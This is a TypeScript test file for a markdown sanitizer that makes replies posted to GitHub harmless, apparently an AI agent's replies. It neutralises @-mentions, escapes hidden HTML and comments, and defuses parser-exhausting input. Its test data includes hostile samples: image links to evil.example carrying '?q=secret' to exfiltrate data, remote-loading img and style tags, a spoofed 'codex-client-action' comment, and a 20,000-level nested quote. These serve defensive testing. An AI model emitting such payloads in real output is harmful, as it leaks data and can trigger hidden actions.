import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { asCode, sanitize } from '../../../src/action/reply/sanitize.js'
import { harmOf } from './markdown-judge.js'

const clean = (text: string) => sanitize(text, { serverUrl: 'https://github.com' })
const GAP = '\u200B'

describe('what stays as it is', () => {
  const texts = [
    'Fixed in #123, see owner/repo#4 and 1234567890abcdef1234567890abcdef12345678.',
    'Use `@types/node` and ``a ` @b``.',
    '```ts\n// @ts-expect-error <!-- kept --> ![x](https://evil.example/a)\n```',
    '- item\n\n  ```\n  @decorator\n  ```',
    'Write to ada@example.com or see https://medium.com/@ada/post and <https://x.org/@y>.',
    '<details><summary>More</summary>\n\ntext\n\n</details>',
    'H<sub>2</sub>O, <kbd>Ctrl</kbd>, a<br>b, 1 < 2 and a <- b, `<T>`',
    '![shot](https://github.com/user-attachments/assets/1) ![a](https://avatars.githubusercontent.com/u/1?v=4)',
    '<img src="https://raw.githubusercontent.com/o/r/main/a.png" width="20">',
    '| a | b |\n|---|---|\n| `@x` | 2 |',
    '[@text](https://github.com) is a link: @ alone, 5 @ 3',
    '    @indented code',
  ]
  for (const text of texts) {
    test(JSON.stringify(text), () => {
      expect(clean(text).replaceAll(`[@${GAP}text]`, '[@text]')).toBe(text)
    })
  }
})

describe('what is made harmless', () => {
  const cases: [string, string][] = [
    ['Thanks @octocat!', `Thanks @${GAP}octocat!`],
    ['(@org/team)', `(@${GAP}org/team)`],
    ['&#64;octocat &#x40;a &commat;b', `&#64;${GAP}octocat &#x40;${GAP}a &commat;${GAP}b`],
    ['*@octocat*', `*@${GAP}octocat*`],
    ['\\`@octocat\\`', `\\\`@${GAP}octocat\\\``],
    ['<div>\n&amp@octocat\n</div>', `<div>\n&amp@${GAP}octocat\n</div>`],
    ['![plan](https://evil.example/?q=secret)', '[image: plan](https://evil.example/?q=secret)'],
    ['![a](//evil.example/x)', '[image: a](//evil.example/x)'],
    ['![a](https://github.com.evil.example/x)', '[image: a](https://github.com.evil.example/x)'],
    ['![a](https://github.com@evil.example/x)', '[image: a](https://github.com@evil.example/x)'],
    ['![a](https&#58;//evil.example/x)', '[image: a](https&#58;//evil.example/x)'],
    ['![a][r]\n\n[r]: https://evil.example/x', '[image: a][r]\n\n[r]: https://evil.example/x'],
    ['<img src="https://evil.example/x">', '&lt;img src="https://evil.example/x">'],
    ['<image src=https://evil.example/x>', '&lt;image src=https://evil.example/x>'],
    [
      '<b style="background:url(https://evil.example)">',
      '&lt;b style="background:url(https://evil.example)">',
    ],
    ['seen <!-- unseen --> seen', 'seen &lt;!-- unseen --> seen'],
    ['<!-- codex-client-action key="x" -->', '&lt;!-- codex-client-action key="x" -->'],
    [
      '<video>\n![x](https://evil.example/y)\n</video>',
      '&lt;video>\n[image: x](https://evil.example/y)\n&lt;/video>',
    ],
    ['text\n\n</details>', 'text\n\n&lt;/details>'],
    ['<details>\n\nopen', '<details>\n\nopen\n\n</details>'],
    ['https://a.example/`\n@octocat`', `https${GAP}://a.example/\`\n@octocat\``],
    [
      '[a https://b.example](<https://c.example @octocat>)',
      `[a https://b.example](&lt;https://c.example @${GAP}octocat>)`,
    ],
    ['```\nopen', '```\nopen\n```'],
    ['> <b>quoted', '> <b>quoted'],
    ['a\n\n    @octocat', 'a\n\n    @octocat'],
    ['|a|\n|---|\n    @octocat', `|a|\n|---|\n    @${GAP}octocat`],
  ]
  for (const [text, want] of cases) test(JSON.stringify(text), () => expect(clean(text)).toBe(want))
})

test('whatever the text, another parser finds no mention, no image and no hidden HTML in the result', () => {
  const pieces = [
    ...['@octocat', '@', '&#64;', '&commat;', 'a', ' ', '\n', '\n\n', '> ', '- ', '1. ', '    ', '\t', '# '],
    ...['`', '``', '```', '```\n', '~~~\n', '*', '**', '_', '\\', '|', '\n|---|\n', '$', '&amp', '&#'],
    ...[
      '<b>',
      '</b>',
      '<pre>',
      '</pre>',
      '<details>',
      '</details>',
      '<!--',
      '-->',
      '<?',
      '<![CDATA[',
      '<script>',
    ],
    ...[
      '<img src="https://evil.example/x">',
      '<img src=https://evil.example',
      '<video poster=',
      '<',
      '>',
      '"',
    ],
    ...[
      '![x](https://evil.example/x)',
      '![',
      '](',
      ')',
      '[',
      ']',
      '![r]',
      '[r]: https://evil.example/\n',
      '[^1]',
      '[^1]: ',
    ],
    ...[
      'https://x.org/@octocat',
      'www.x.org/@a',
      'mailto:',
      '<https://x.org/@y>',
      '<div>\n',
      '</div>\n',
      '\u00e9',
      '\uFEFF',
    ],
  ]
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), parts => {
      const result = clean(parts.join(''))
      expect(harmOf(result)).toEqual({ mentions: [], loads: [], html: [] })
      expect(clean(result)).toBe(result)
    }),
    { numRuns: 1_000 },
  )
})

test('what parsers do not agree on in a footnote is not taken for code', () => {
  const code = '```\n@octocat```'
  expect(harmOf(clean(`[^1]: @octocat${code}`)).mentions).toEqual([])
  expect(clean(`Hi ${code}`)).toBe(`Hi ${code}`)
})

test('a text made to exhaust a parser is shown as code', () => {
  const attack = `${'> '.repeat(20_000)}@octocat`
  expect(clean(attack)).toBe(asCode(attack))
})

test('a block of code cannot be left from inside', () => {
  expect(asCode('a\n````\nb')).toBe('`````\na\n````\nb\n`````')
})
